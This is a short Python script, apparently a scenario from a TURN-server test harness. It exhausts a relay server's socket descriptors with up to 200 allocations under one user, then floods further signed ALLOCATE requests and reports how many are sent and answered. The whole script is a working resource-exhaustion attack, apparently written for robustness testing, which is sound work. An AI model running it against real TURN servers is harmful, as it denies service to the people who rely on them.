"""Allocate requests of one user, when the server has no descriptor left for a relay socket: as fast as
they go."""
import time

import attack
import turn


def main():
    holders = []
    # Until there are none left, and at most as many as one user may have.
    for _ in range(200):
        client = turn.Client(turn.Udp(turn.ATTACKER, patience=2.0), "mallory")
        answer = client.allocate()
        if answer is None or not answer.succeeded:
            break
        holders.append(client)
    asking = client.transport.socket
    asking.setblocking(False)
    allocate = turn.attribute(turn.REQUESTED_TRANSPORT, turn.UDP_TRANSPORT)
    asked = answers = 0
    attack.begun()
    while attack.goes_on():
        for _ in range(50):
            try:
                asking.send(client.signed(turn.ALLOCATE, allocate))
                asked += 1
                while True:
                    asking.recv(2048)
                    answers += 1
            except OSError:
                pass
        time.sleep(0.001)
    attack.report(held=len(holders), asked=asked, answers=answers)


main()
